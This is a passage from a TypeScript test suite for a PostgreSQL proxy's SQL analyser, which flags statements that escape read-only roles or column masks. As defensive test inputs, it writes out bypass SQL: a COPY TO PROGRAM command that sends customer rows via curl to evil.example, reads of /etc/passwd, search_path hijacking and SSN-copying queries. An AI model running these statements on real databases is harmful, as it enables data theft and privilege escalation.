/**
 * SQL → statement facts with the real PostgreSQL parser (libpg-query):
 * one test per bypass issue #4 names, then ordinary statements.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { analyseSql, analyseSqlSync, loadSqlParser, SqlAnalysisError, type StatementFacts } from '../../proxies/postgres/sql/analyse.js';

beforeAll(() => loadSqlParser());

const one = (sql: string): StatementFacts => {
  const statements = analyseSqlSync(sql);
  expect(statements).toHaveLength(1);
  return statements[0] as StatementFacts;
};
const read = (name: string, schema = 'public') => ({ schema, name, access: 'read' });
const write = (name: string, schema = 'public') => ({ schema, name, access: 'write' });

describe('bypasses a read-only role must not get through', () => {
  it('COPY … TO PROGRAM runs a command: not read-only, flagged program', () => {
    expect(one("COPY public.customers TO PROGRAM 'curl -d @- https://evil.example'")).toEqual({
      kind: 'copy', readonly: false, program: true, tables: [read('customers')], functions: [],
    });
    expect(one("COPY orders FROM PROGRAM 'cat /etc/passwd'")).toMatchObject({ kind: 'copy', readonly: false, program: true, tables: [write('orders')] });
    // Only COPY … TO STDOUT is read-only; TO 'file' writes a server file.
    expect(one('COPY public.orders TO STDOUT')).toMatchObject({ readonly: true });
    expect(one("COPY public.orders TO '/tmp/x'")).toMatchObject({ readonly: false });
  });

  it('pg_read_file is listed wherever it is called', () => {
    expect(one("SELECT pg_read_file('/etc/passwd')")).toEqual({ kind: 'select', readonly: true, tables: [], functions: ['pg_read_file'] });
    expect(one("SELECT id FROM orders WHERE notes = (SELECT pg_catalog.pg_read_file('/etc/passwd'))").functions).toEqual(['pg_catalog.pg_read_file']);
  });

  // Red-team round 25: the database's name before the schema slipped checks that read schema.name.
  it('a function named with its database is listed as schema.name, as the server reads it', () => {
    expect(one('SELECT query FROM orders.pg_catalog.pg_stat_get_activity(NULL)').functions).toEqual(['pg_catalog.pg_stat_get_activity']);
    expect(one("SELECT orders.pg_catalog.set_config('search_path', 'evil', false)").functions).toEqual(['pg_catalog.set_config']);
  });

  it('dblink_exec is listed, also as a table function', () => {
    expect(one("SELECT dblink_exec('host=x', 'DROP TABLE orders')").functions).toEqual(['dblink_exec']);
    expect(one("SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)").functions).toEqual(['dblink']);
  });

  it('a DO block is not read-only', () => {
    expect(one("DO $$ BEGIN PERFORM pg_sleep(10); END $$")).toEqual({ kind: 'do', readonly: false, tables: [], functions: [] });
  });

  it('SELECT … INTO creates a table: a write', () => {
    expect(one('SELECT email, ssn INTO loot FROM public.customers')).toEqual({
      kind: 'select', readonly: false, tables: [write('loot'), read('customers')], functions: [],
      // The rows go into a table no mask plan follows.
      derived_columns: ['email', 'ssn'],
    });
    // INTO on the leftmost SELECT of a UNION still creates the table.
    expect(one('SELECT * INTO TEMP loot FROM a UNION SELECT * FROM b')).toMatchObject({ readonly: false, tables: [write('loot', 'pg_temp'), read('a'), read('b')] });
    expect(one('CREATE TABLE loot AS SELECT * FROM customers')).toMatchObject({ kind: 'create', readonly: false, tables: [read('customers'), write('loot')] });
  });

  it('nextval is listed (the statement itself is a SELECT)', () => {
    expect(one("SELECT nextval('orders_id_seq')")).toEqual({ kind: 'select', readonly: true, tables: [], functions: ['nextval'] });
  });

  it('set_config is listed, qualified or not, and SET is not read-only', () => {
    expect(one("SELECT set_config('transaction_read_only', 'off', false)").functions).toEqual(['set_config']);
    expect(one("SELECT pg_catalog.set_config('search_path', 'evil', false)").functions).toEqual(['pg_catalog.set_config']);
    expect(one('SET search_path = evil, public')).toEqual({ kind: 'set', readonly: false, setting: 'search_path', tables: [], functions: [] });
    expect(one('SET TRANSACTION READ WRITE')).toMatchObject({ kind: 'set', readonly: false, setting: 'transaction' });
    expect(one('SHOW search_path')).toEqual({ kind: 'show', readonly: true, setting: 'search_path', tables: [], functions: [] });
  });

  it('EXPLAIN ANALYZE of a write runs it; plain EXPLAIN does not', () => {
    expect(one('EXPLAIN ANALYZE DELETE FROM public.orders')).toEqual({ kind: 'explain', readonly: false, analyze: true, tables: [write('orders')], functions: [] });
    expect(one('EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET status = lower(status)')).toMatchObject({ readonly: false, analyze: true, tables: [write('orders')], functions: ['lower'] });
    expect(one('EXPLAIN ANALYZE SELECT * FROM public.orders')).toMatchObject({ readonly: true, analyze: true, tables: [read('orders')] });
    expect(one('EXPLAIN SELECT * FROM public.orders')).toEqual({ kind: 'explain', readonly: true, analyze: false, tables: [read('orders')], functions: [] });
  });

  // Planning takes the statement's table locks (ROW EXCLUSIVE for a write, ROW SHARE for FOR UPDATE),
  // held to the end of the transaction, where they block DDL: not read-only, though nothing is written.
  it.each([
    'EXPLAIN DELETE FROM public.orders',
    'EXPLAIN (ANALYZE off) DELETE FROM public.orders',
    'EXPLAIN (COSTS off) UPDATE orders SET status = 1',
    'EXPLAIN INSERT INTO orders VALUES (1)',
    'EXPLAIN MERGE INTO orders o USING flags f ON o.id = f.order_id WHEN MATCHED THEN DELETE',
    'EXPLAIN SELECT * FROM orders FOR UPDATE',
    'EXPLAIN WITH d AS (DELETE FROM orders RETURNING id) SELECT count(*) FROM d',
  ])('plain %s is not read-only, its tables only read', (sql) => {
    const facts = one(sql);
    expect(facts).toMatchObject({ kind: 'explain', readonly: false, analyze: false });
    expect(facts.tables.map((t) => t.access)).not.toContain('write');
    expect(facts.tables).toContainEqual(read('orders'));
  });

  it('a CTE containing DELETE makes the SELECT a write', () => {
    expect(one('WITH gone AS (DELETE FROM public.orders RETURNING *) SELECT count(*) FROM gone')).toEqual({
      // RETURNING reads the rows it writes.
      kind: 'select', readonly: false, tables: [read('orders'), write('orders')], functions: ['count'],
    });
    // Nested deeper, and UPDATE / INSERT too.
    expect(one('SELECT * FROM (WITH u AS (UPDATE orders SET status = 1 RETURNING id) SELECT * FROM u) s')).toMatchObject({ readonly: false, tables: [read('orders'), write('orders')] });
    expect(one('WITH i AS (INSERT INTO audit_log VALUES (1) RETURNING 1) SELECT 1')).toMatchObject({ readonly: false, tables: [read('audit_log'), write('audit_log')] });
  });

  it('transaction control is read-only unless it asks for READ WRITE; COMMIT is decided with the rest of the batch', () => {
    expect(analyseSqlSync('BEGIN READ ONLY; SELECT 1; COMMIT; DELETE FROM orders')).toEqual([
      { kind: 'begin', readonly: true, tables: [], functions: [] },
      { kind: 'select', readonly: true, tables: [], functions: [] },
      { kind: 'commit', readonly: true, tables: [], functions: [] },
      { kind: 'delete', readonly: false, tables: [write('orders')], functions: [] },
    ]);
    for (const sql of ['BEGIN', 'START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY', 'END', 'COMMIT AND CHAIN', 'ROLLBACK', 'ABORT', 'SAVEPOINT a', 'RELEASE a', 'ROLLBACK TO a']) {
      const facts = one(sql);
      expect(facts.readonly, sql).toBe(true);
      expect(facts.read_write, sql).toBeUndefined();
    }
    expect(one('END')).toMatchObject({ kind: 'commit' });
    expect(one('BEGIN READ WRITE')).toEqual({ kind: 'begin', readonly: false, read_write: true, tables: [], functions: [] });
    expect(one('START TRANSACTION READ WRITE')).toMatchObject({ kind: 'begin', readonly: false, read_write: true });
    // READ ONLY then READ WRITE: PostgreSQL applies the last one.
    expect(one('BEGIN READ ONLY, READ WRITE')).toMatchObject({ readonly: false, read_write: true });
    // Two-phase commands act on prepared transactions, possibly others'.
    expect(one("PREPARE TRANSACTION 'x'")).toMatchObject({ kind: 'prepare_transaction', readonly: false });
    expect(one("COMMIT PREPARED 'x'")).toMatchObject({ kind: 'commit_prepared', readonly: false });
    expect(one("ROLLBACK PREPARED 'x'")).toMatchObject({ kind: 'rollback_prepared', readonly: false });
  });

  it('settings that can turn read-only mode off are read_write', () => {
    for (const sql of [
      'SET TRANSACTION READ WRITE',
      'SET TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE',
      'SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE',
      'SET default_transaction_read_only = off',
      'SET default_transaction_read_only TO DEFAULT',
      "SET SESSION default_transaction_read_only = 'no'",
      'SET transaction_read_only = 0',
      'SET LOCAL transaction_read_only TO false',
      'SET transaction_read_only FROM CURRENT',
      'RESET transaction_read_only',
      'RESET default_transaction_read_only',
      'RESET ALL',
      'DISCARD ALL',
    ]) {
      const facts = one(sql);
      expect(facts.read_write, sql).toBe(true);
      expect(facts.readonly, sql).toBe(false);
    }
    expect(one('SET TRANSACTION READ WRITE')).toMatchObject({ kind: 'set', setting: 'transaction' });
    expect(one('SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE')).toMatchObject({ setting: 'session characteristics' });
    expect(one('RESET ALL')).toEqual({ kind: 'reset', readonly: false, read_write: true, setting: 'all', tables: [], functions: [] });
    expect(one('DISCARD ALL')).toEqual({ kind: 'discard', readonly: false, read_write: true, tables: [], functions: [], session_names: { statement: '*', portal: '*' } });
    for (const sql of [
      'SET TRANSACTION READ ONLY',
      'SET TRANSACTION ISOLATION LEVEL REPEATABLE READ',
      'SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY',
      'SET default_transaction_read_only = on',
      'SET transaction_read_only TO true',
      'SET transaction_read_only = 1',
      'DISCARD PLANS',
      'RESET statement_timeout',
    ]) {
      expect(one(sql).read_write, sql).toBeUndefined();
    }
  });

  it('SET reports its setting and a single constant value, lowercase; never read-only', () => {
    expect(one("SET client_encoding = 'UTF8'")).toEqual({ kind: 'set', readonly: false, setting: 'client_encoding', value: 'utf8', tables: [], functions: [] });
    expect(one("SET NAMES 'SJIS'")).toMatchObject({ setting: 'client_encoding', value: 'sjis' });
    expect(one('SET extra_float_digits = 3')).toMatchObject({ setting: 'extra_float_digits', value: '3' });
    expect(one('SET extra_float_digits = 0')).toMatchObject({ value: '0' });
    expect(one('SET x.y = 1.5')).toMatchObject({ setting: 'x.y', value: '1.5' });
    expect(one("SET LOCAL statement_timeout = '5s'")).toMatchObject({ setting: 'statement_timeout', value: '5s' });
    expect(one('SET application_name TO psql')).toMatchObject({ setting: 'application_name', value: 'psql' });
    expect(one("SET TIME ZONE 'UTC'")).toMatchObject({ setting: 'timezone', value: 'utc' });
    // Lists, DEFAULT and expressions have no single value.
    expect(one('SET datestyle = iso, mdy')).not.toHaveProperty('value');
    expect(one('SET statement_timeout TO DEFAULT')).not.toHaveProperty('value');
    expect(one("SET TIME ZONE INTERVAL '+01:00' HOUR TO MINUTE")).not.toHaveProperty('value');
    expect(one('SET ROLE admin')).toMatchObject({ kind: 'set', readonly: false, setting: 'role', value: 'admin' });
    expect(one('SET SESSION AUTHORIZATION DEFAULT')).toMatchObject({ kind: 'set', readonly: false, setting: 'session_authorization' });
    expect(one('RESET ROLE')).toMatchObject({ kind: 'reset', readonly: false, setting: 'role' });
    expect(one('SHOW ALL')).toEqual({ kind: 'show', readonly: true, setting: 'all', tables: [], functions: [] });
  });

  it('LISTEN and UNLISTEN are reads, NOTIFY is not', () => {
    expect(one('LISTEN jobs')).toMatchObject({ kind: 'listen', readonly: true });
    expect(one('UNLISTEN *')).toMatchObject({ kind: 'unlisten', readonly: true });
    expect(one("NOTIFY jobs, 'run'")).toMatchObject({ kind: 'notify', readonly: false });
    expect(one("SELECT pg_notify('jobs', 'run')").functions).toEqual(['pg_notify']);
  });

  it('other ways to write from a read: FOR UPDATE, PREPARE, EXECUTE, CALL, LOCK', () => {
    expect(one('SELECT * FROM orders FOR UPDATE')).toMatchObject({ kind: 'select', readonly: false });
    expect(one('PREPARE p AS DELETE FROM orders')).toMatchObject({ kind: 'prepare', readonly: false, tables: [write('orders')] });
    expect(one('PREPARE p AS SELECT * FROM orders WHERE id = $1')).toMatchObject({ kind: 'prepare', readonly: true });
    expect(one('EXECUTE p(1)')).toMatchObject({ kind: 'execute', readonly: false });
    expect(one('CALL refund(42)')).toEqual({ kind: 'call', readonly: false, tables: [], functions: ['refund'] });
    expect(one('LOCK TABLE orders IN ACCESS EXCLUSIVE MODE')).toMatchObject({ kind: 'lock', readonly: false });
    expect(one('COPY (DELETE FROM orders RETURNING *) TO STDOUT')).toMatchObject({ kind: 'copy', readonly: false, tables: [read('orders'), write('orders')] });
    expect(one('DECLARE c CURSOR FOR SELECT * FROM orders FOR UPDATE')).toMatchObject({ kind: 'declare', readonly: false });
    expect(one('DECLARE c CURSOR FOR SELECT * FROM orders')).toMatchObject({ kind: 'declare', readonly: true });
    expect(one('EXPLAIN ANALYZE WITH d AS (DELETE FROM orders RETURNING id) SELECT count(*) FROM d')).toMatchObject({ kind: 'explain', readonly: false, tables: [read('orders'), write('orders')] });
    expect(one('EXPLAIN ANALYZE EXECUTE p(1)')).toMatchObject({ kind: 'explain', readonly: false });
    // Planning what p runs takes its locks, and the analyser cannot see what that is.
    expect(one('EXPLAIN EXECUTE p(1)')).toMatchObject({ kind: 'explain', readonly: false, analyze: false });
  });
});

describe('derived_columns: values RowDescription does not attribute to a column', () => {
  const derived = (sql: string) => one(sql).derived_columns;

  it('is left out for bare column references, stars and expressions without columns', () => {
    for (const sql of [
      'SELECT ssn FROM customers',
      'SELECT c.ssn, c.email AS e FROM public.customers c',
      'SELECT c.* FROM customers c',
      'SELECT * FROM customers',
      'TABLE customers',
      'SELECT count(*), now(), 1 FROM customers',
      'SELECT ssn FROM customers WHERE upper(email) = $1 ORDER BY lower(name)',
      'SELECT x FROM (SELECT ssn AS x FROM customers) s',
      'WITH w AS (SELECT ssn FROM customers) SELECT ssn FROM w',
      'DELETE FROM customers RETURNING ssn, *',
      'COPY customers FROM STDIN',
      "COPY customers TO PROGRAM 'cat'",
    ]) {
      expect(one(sql), sql).not.toHaveProperty('derived_columns');
    }
  });

  it('lists the columns inside expressions in the select list', () => {
    expect(derived('SELECT upper(ssn) FROM customers')).toEqual(['ssn']);
    expect(derived("SELECT ssn || '' AS s FROM customers")).toEqual(['ssn']);
    expect(derived('SELECT c.ssn::text, c.id FROM customers c')).toEqual(['ssn']);
    expect(derived('SELECT CASE WHEN c.vip THEN c."SSN" END FROM customers c')).toEqual(['ssn', 'vip']);
    expect(derived('SELECT (SELECT ssn FROM customers LIMIT 1)')).toEqual(['ssn']);
    expect(derived('SELECT string_agg(email, \',\') FROM customers')).toEqual(['email']);
  });

  it('reports a whole-row reference as *', () => {
    expect(derived('SELECT row_to_json(c) FROM customers c')).toEqual(['*', 'c']);
    expect(derived('SELECT (c.*)::text FROM customers c')).toEqual(['*']);
    expect(derived('SELECT c.*::text FROM customers c')).toEqual(['*']);
    expect(derived('SELECT to_jsonb(customers) FROM public.customers')).toEqual(['*', 'customers']);
    expect(derived('SELECT count(c.*) FROM customers c')).toEqual(['*']);
    expect(derived('SELECT (c).ssn FROM customers c')).toEqual(['*', 'c']);
    // Bare, but a whole row all the same: one composite column.
    expect(derived('SELECT c FROM customers c')).toEqual(['*', 'c']);
    expect(derived('DELETE FROM customers RETURNING customers')).toEqual(['*', 'customers']);
  });

  it('reads a bare system_user as a server before PostgreSQL 16 does too: a column, or the whole row of a FROM item so named', () => {
    // PostgreSQL 15 returns each customer's whole row here; the parser (18's grammar) sees a call.
    expect(derived('SELECT system_user FROM customers AS "system_user"')).toEqual(['*', 'system_user']);
    expect(derived('SELECT id, system_user::text FROM customers AS "system_user"')).toEqual(['*', 'system_user']);
    expect(derived('UPDATE orders SET status = system_user::text FROM customers AS "system_user" WHERE orders.customer_id = "system_user".id'))
      .toEqual(['*', 'system_user']);
    expect(one('SELECT system_user').functions).toEqual(['pg_catalog.system_user']);
    // With no FROM item of that name it is the login name (16+) or a column, as any bare name would be.
    expect(one('SELECT system_user FROM customers')).not.toHaveProperty('derived_columns');
    expect(derived('SELECT upper(system_user) FROM customers')).toEqual(['system_user']);
  });

  it('lists SQL/JSON syntax and merge_action() as the calls a server before PostgreSQL 16 or 17 reads them as', () => {
    expect(one("SELECT json_scalar(1), json_object('a': 1), json_array(SELECT 1), json('1'), json_value('1', '$'), json_exists('1', '$')").functions)
      .toEqual(['json_scalar', 'json_object', 'json_array', 'json', 'json_value', 'json_exists']);
    expect(one('SELECT json_objectagg(k: v), json_arrayagg(v) FROM t').functions).toEqual(['json_objectagg', 'json_arrayagg']);
    expect(one("SELECT * FROM json_table('[]', '$[*]' COLUMNS (a int PATH '$')) jt").functions).toEqual(['json_table']);
    // 17's merge_action() is any function of that name to PostgreSQL 15.
    expect(one('SELECT merge_action()').functions).toEqual(['merge_action']);
  });

  it('looks at every query level: subqueries, CTEs, set operations, RETURNING, PREPARE, DECLARE', () => {
    expect(derived('SELECT x FROM (SELECT upper(ssn) AS x FROM customers) s')).toEqual(['ssn']);
    expect(derived('WITH w AS (SELECT md5(ssn) AS h FROM customers) SELECT h FROM w')).toEqual(['ssn']);
    expect(derived('SELECT id FROM orders WHERE note IN (SELECT upper(ssn) FROM customers)')).toEqual(['ssn']);
    expect(derived('UPDATE customers SET name = $1 RETURNING lower(ssn)')).toEqual(['ssn']);
    expect(derived('PREPARE p AS SELECT upper(ssn) FROM customers')).toEqual(['ssn']);
    expect(derived('DECLARE cur CURSOR FOR SELECT upper(ssn) FROM customers')).toEqual(['ssn']);
    // Set operations: RowDescription names no source column for any branch, the first included.
    expect(derived("SELECT 'x' UNION SELECT ssn FROM customers")).toEqual(['ssn']);
    expect(derived('SELECT ssn FROM customers UNION ALL SELECT NULL')).toEqual(['ssn']);
    expect(derived('SELECT name FROM customers UNION ALL SELECT c.ssn FROM customers c')).toEqual(['name', 'ssn']);
    expect(derived('SELECT id FROM a UNION SELECT id FROM b EXCEPT SELECT * FROM c')).toEqual(['*', 'id']);
    expect(derived('SELECT name FROM customers UNION SELECT name FROM customers')).toEqual(['name']);
  });

  it('follows aliases down: a subquery or CTE column can hide the masked one', () => {
    expect(derived('SELECT upper(x) FROM (SELECT ssn AS x FROM customers) s')).toEqual(['ssn', 'x']);
    expect(derived('WITH w AS (SELECT c.ssn AS x FROM customers c) SELECT x || \'\' FROM w')).toEqual(['ssn', 'x']);
    // Renaming by position cannot be followed by name: any column.
    expect(derived('SELECT upper(b) FROM customers AS c(a, b)')).toEqual(['*', 'b']);
    expect(derived('WITH w(a) AS (SELECT * FROM customers) SELECT a || \'\' FROM w')).toEqual(['*', 'a']);
  });

  it('counts columns turned into rows: VALUES, FROM functions, merged join columns', () => {
    expect(derived('SELECT v FROM customers c, unnest(ARRAY[c.ssn]) AS u(v)')).toEqual(['ssn']);
    expect(derived('SELECT v FROM customers c, json_each_text(row_to_json(c)) j(k, v)')).toEqual(['*', 'c']);
    expect(derived('SELECT v FROM customers c, LATERAL (VALUES (c.ssn)) AS t(v)')).toEqual(['*', 'ssn']);
    expect(derived("SELECT * FROM customers c, XMLTABLE('/r' PASSING c.doc COLUMNS a text) x")).toEqual(['doc']);
    expect(derived('SELECT ssn FROM customers FULL JOIN leads USING (ssn)')).toEqual(['ssn']);
    expect(derived('SELECT * FROM customers NATURAL JOIN leads')).toEqual(['*']);
  });

  it('COPY … TO STDOUT has no RowDescription: everything it sends', () => {
    expect(derived('COPY customers TO STDOUT')).toEqual(['*']);
    expect(derived('COPY public.customers (ssn, name) TO STDOUT')).toEqual(['name', 'ssn']);
    expect(derived('COPY (SELECT ssn, email FROM customers) TO STDOUT')).toEqual(['email', 'ssn']);
    expect(derived('COPY (SELECT * FROM customers) TO STDOUT')).toEqual(['*']);
  });

  it('is left out for EXPLAIN, which returns a plan, and kept for EXPLAIN ANALYZE, which runs the statement', () => {
    expect(one('EXPLAIN SELECT upper(ssn) FROM customers')).not.toHaveProperty('derived_columns');
    expect(one('EXPLAIN INSERT INTO notes (body) SELECT ssn FROM customers')).not.toHaveProperty('derived_columns');
    // A carrier sends the value on while the plan is analysed.
    expect(derived("EXPLAIN ANALYZE SELECT pg_notify('x', string_agg(ssn, ',')) FROM customers")).toEqual(['ssn']);
    expect(derived('EXPLAIN ANALYZE SELECT upper(ssn) FROM customers')).toEqual(['ssn']);
  });

  it('lists every value a statement writes into a table, where no mask plan follows it', () => {
    expect(derived('INSERT INTO notes (body) SELECT ssn FROM customers')).toEqual(['ssn']);
    expect(derived('INSERT INTO notes (body) SELECT c.ssn FROM customers c WHERE c.id = 1')).toEqual(['ssn']);
    expect(derived('INSERT INTO notes SELECT * FROM customers')).toEqual(['*']);
    expect(derived('INSERT INTO notes SELECT c FROM customers c')).toEqual(['*', 'c']);
    expect(derived("INSERT INTO notes (body) SELECT 'x' UNION SELECT ssn FROM customers")).toEqual(['ssn']);
    expect(derived('INSERT INTO notes (body) VALUES ((SELECT ssn FROM customers LIMIT 1))')).toEqual(['ssn']);
    expect(derived('WITH w AS (SELECT ssn FROM customers) INSERT INTO notes (body) SELECT ssn FROM w')).toEqual(['ssn']);
    expect(derived('CREATE TABLE leak AS SELECT ssn FROM customers')).toEqual(['ssn']);
    expect(derived('CREATE MATERIALIZED VIEW leak AS SELECT id, ssn FROM customers')).toEqual(['id', 'ssn']);
    expect(derived('SELECT ssn INTO leak FROM customers')).toEqual(['ssn']);
    expect(derived('UPDATE customers SET name = ssn')).toEqual(['ssn']);
    expect(derived('UPDATE orders o SET note = c.ssn FROM customers c WHERE c.id = o.customer_id')).toEqual(['ssn']);
    expect(derived('UPDATE orders SET (note, qty) = (SELECT ssn, 1 FROM customers LIMIT 1)')).toEqual(['ssn']);
    expect(derived('INSERT INTO notes (id, body) VALUES (1, $1) ON CONFLICT (id) DO UPDATE SET body = (SELECT ssn FROM customers LIMIT 1)')).toEqual(['ssn']);
    expect(derived('MERGE INTO notes n USING customers c ON n.id = c.id WHEN MATCHED THEN UPDATE SET body = c.ssn')).toEqual(['ssn']);
    expect(derived('MERGE INTO notes n USING customers c ON n.id = c.id WHEN NOT MATCHED THEN INSERT (id, body) VALUES (c.id, c.ssn)')).toEqual(['id', 'ssn']);
    expect(derived('WITH moved AS (INSERT INTO notes (body) SELECT ssn FROM customers RETURNING id) SELECT id FROM moved')).toEqual(['id', 'ssn']);
    expect(derived('EXPLAIN ANALYZE INSERT INTO notes (body) SELECT ssn FROM customers')).toEqual(['ssn']);
    expect(derived('PREPARE p AS INSERT INTO notes (body) SELECT ssn FROM customers')).toEqual(['ssn']);
    expect(derived('ALTER TABLE customers ADD COLUMN s2 text GENERATED ALWAYS AS (upper(ssn)) STORED')).toEqual(['ssn']);
    expect(derived('ALTER TABLE customers ALTER COLUMN notes TYPE text USING ssn')).toEqual(['ssn']);
    expect(derived('ALTER TABLE customers ALTER COLUMN s2 SET EXPRESSION AS (ssn)')).toEqual(['ssn']);
    // A new table's generated column reads only that table's own (empty) rows.
    expect(one('CREATE TABLE t (a text, b text GENERATED ALWAYS AS (upper(a)) STORED)')).not.toHaveProperty('derived_columns');
    expect(one('ALTER TABLE customers ADD CONSTRAINT c CHECK (ssn IS NOT NULL)')).not.toHaveProperty('derived_columns');
  });

  it('qualified references: table columns to check, calls on rows of unknown shape, field notation on a column', () => {
    // A table's columns only the catalog knows: c.row_to_json is row_to_json(c) unless customers has such a column.
    expect(one('SELECT c.id, c.row_to_json FROM customers c').qualified_columns).toEqual(['public.customers.id', 'public.customers.row_to_json']);
    expect(one('SELECT customers.ssn FROM sales.customers').qualified_columns).toEqual(['sales.customers.ssn']);
    // A subquery or CTE whose output names are known: a name outside them is a call on the whole row.
    expect(one('SELECT t.ssn FROM (SELECT ssn FROM customers) t')).not.toHaveProperty('derived_columns');
    expect(derived('SELECT t.row_to_json FROM (SELECT ssn FROM customers) t')).toEqual(['*', 'ssn']);
    expect(derived('WITH w(a) AS (SELECT ssn FROM customers) SELECT w.ssn FROM w')).toContain('*');
    // `*` over one table: the catalog tells its columns from a call.
    expect(one('SELECT t.id, t.row_to_json FROM (SELECT * FROM customers WHERE id > 1) t')).toMatchObject({ qualified_columns: ['public.customers.id', 'public.customers.row_to_json'] });
    expect(one('WITH big AS (SELECT o.* FROM orders o) SELECT big.id FROM big').qualified_columns).toEqual(['public.orders.id']);
    // `*` over a join, or renamed by a column list: not known.
    expect(derived('SELECT t.id FROM (SELECT * FROM customers, orders) t')).toEqual(['*']);
    expect(derived('SELECT t.a FROM (SELECT * FROM customers) t(a)')).toContain('*');
    // x.f with no FROM item x: the column x, then f(x).
    expect(derived('SELECT ssn.upper FROM customers')).toEqual(['ssn']);
    // A function in FROM: its rows hold only its (derived) arguments.
    expect(one('SELECT g.g FROM generate_series(1, 3) g')).not.toHaveProperty('derived_columns');
    // `(expr).name` may be the call name(expr): listed with the functions.
    expect(one("SELECT ('SELECT 1'::text).ts_stat").functions).toEqual(['ts_stat']);
  });

  it('lists the arguments of calls that carry values out of the statement, wherever they sit', () => {
    expect(derived("SELECT id FROM customers WHERE pg_notify('ch', ssn) IS NULL")).toEqual(['ssn']);
    expect(derived("SELECT id FROM customers WHERE pg_catalog.set_config('x', ssn, false) <> ''")).toEqual(['ssn']);
    expect(derived('SELECT id FROM customers WHERE pg_try_advisory_xact_lock(length(ssn))')).toEqual(['ssn']);
    expect(one("SELECT id FROM customers WHERE lower(email) = 'a'")).not.toHaveProperty('derived_columns');
  });

  it('views and rules show their query\'s columns under their own name: listed as written', () => {
    expect(derived('CREATE TEMP VIEW v AS SELECT id, ssn FROM customers')).toEqual(['id', 'ssn']);
    expect(derived('CREATE RULE r AS ON INSERT TO t DO ALSO SELECT ssn FROM customers')).toEqual(['ssn']);
  });

  it('names the prepared statement EXECUTE runs, also as CREATE TABLE … AS EXECUTE', () => {
    expect(one('EXECUTE p(1)').executes).toBe('p');
    expect(one('CREATE TABLE loot AS EXECUTE p')).toMatchObject({ kind: 'create', executes: 'p', tables: [write('loot')] });
    expect(one('EXPLAIN ANALYZE CREATE TABLE loot AS EXECUTE p')).toMatchObject({ kind: 'explain', executes: 'p' });
    expect(one('EXPLAIN CREATE TABLE loot AS EXECUTE p')).not.toHaveProperty('executes');
    expect(one('CREATE TABLE loot AS SELECT 1')).not.toHaveProperty('executes');
  });

  it('does not list a value written back into the column it came from, nor the row ON CONFLICT supplies', () => {
    for (const sql of [
      "UPDATE orders SET notes = notes || ' (checked)' WHERE id = 12",
      "UPDATE orders o SET notes = upper(o.notes)",
      'INSERT INTO orders (id, notes) VALUES (1, $1) ON CONFLICT (id) DO UPDATE SET notes = excluded.notes',
      'INSERT INTO orders AS t (id, notes) VALUES (1, $1) ON CONFLICT (id) DO UPDATE SET notes = t.notes || excluded.notes',
      'MERGE INTO orders t USING staging s ON t.id = s.id WHEN MATCHED THEN UPDATE SET notes = t.notes',
    ]) {
      expect(one(sql), sql).not.toHaveProperty('derived_columns');
    }
    // Set from an expression over itself: listed for the masks that read the value (leaks.ts).
    expect(one("UPDATE orders SET notes = notes || ' (checked)' WHERE id = 12")).toMatchObject({ rewritten_columns: ['notes'] });
    expect(one("UPDATE orders o SET notes = translate(o.notes, '@', '#')")).toMatchObject({ rewritten_columns: ['notes'] });
    expect(one('INSERT INTO orders AS t (id, notes) VALUES (1, $1) ON CONFLICT (id) DO UPDATE SET notes = t.notes || excluded.notes')).toMatchObject({ rewritten_columns: ['notes'] });
    for (const sql of ['UPDATE orders SET notes = notes', 'INSERT INTO orders (id, notes) VALUES (1, $1) ON CONFLICT (id) DO UPDATE SET notes = upper(excluded.notes)']) {
      expect(one(sql), sql).not.toHaveProperty('rewritten_columns');
    }
    // Another column, another table's column of that name, or a subquery's: derived.
    expect(derived('UPDATE orders SET notes = notes || ssn')).toEqual(['ssn']);
    // Aliased, the target's own name qualifies another FROM item: another row's value, copied.
    expect(derived('UPDATE customers AS x SET ssn = customers.ssn FROM customers WHERE customers.id = 2 AND x.id = 1')).toEqual(['ssn']);
    expect(derived('UPDATE orders o SET notes = c.notes FROM customers c WHERE c.id = o.customer_id')).toEqual(['notes']);
    expect(derived('UPDATE orders SET notes = (SELECT notes FROM customers LIMIT 1)')).toEqual(['notes']);
    expect(derived('MERGE INTO orders t USING customers s ON t.id = s.id WHEN MATCHED THEN UPDATE SET notes = s.notes')).toEqual(['notes']);
  });

  it('does not list what only filters or names the rows written', () => {
    for (const sql of [
      "UPDATE customers SET name = 'x' WHERE ssn = $1",
      'UPDATE customers SET name = $1 FROM leads l WHERE l.ssn = customers.ssn',
      "INSERT INTO notes (id, body) VALUES (1, 'x')",
      'INSERT INTO notes (id, body) SELECT 1, $1 FROM customers WHERE ssn IS NOT NULL',
      'DELETE FROM customers WHERE ssn = $1',
      "MERGE INTO notes n USING customers c ON n.id = c.id AND c.ssn IS NULL WHEN MATCHED THEN DELETE",
    ]) {
      expect(one(sql), sql).not.toHaveProperty('derived_columns');
    }
  });
});

describe('renames: names a mask rule could lose', () => {
  it('lists the table, column or schema an ALTER … RENAME or SET SCHEMA takes a name from', () => {
    expect(one('ALTER TABLE customers RENAME COLUMN ssn TO s2').renames).toEqual(['public.customers.ssn']);
    expect(one('ALTER TABLE IF EXISTS sales.customers RENAME ssn TO s2').renames).toEqual(['sales.customers.ssn']);
    expect(one('ALTER TABLE customers RENAME TO clients').renames).toEqual(['public.customers']);
    expect(one('ALTER MATERIALIZED VIEW m RENAME TO m2').renames).toEqual(['public.m']);
    expect(one('ALTER VIEW v RENAME COLUMN a TO b').renames).toEqual(['public.v.a']);
    expect(one('ALTER TABLE customers SET SCHEMA archive').renames).toEqual(['public.customers']);
    expect(one('ALTER SCHEMA public RENAME TO old_public').renames).toEqual(['public']);
    // The child's rows are then read through the parent, under the parent's name.
    expect(one('ALTER TABLE customers INHERIT people').renames).toEqual(['public.customers']);
    expect(one('ALTER TABLE people ATTACH PARTITION sales.customers FOR VALUES IN (1)').renames).toEqual(['sales.customers']);
    expect(one('ALTER TABLE people NO INHERIT customers')).not.toHaveProperty('renames');
  });

  it('is left out for statements that rename nothing a rule can name', () => {
    for (const sql of ['ALTER TABLE customers ADD COLUMN x int', 'ALTER INDEX i RENAME TO j', 'ALTER FUNCTION f() RENAME TO g', 'SELECT 1']) {
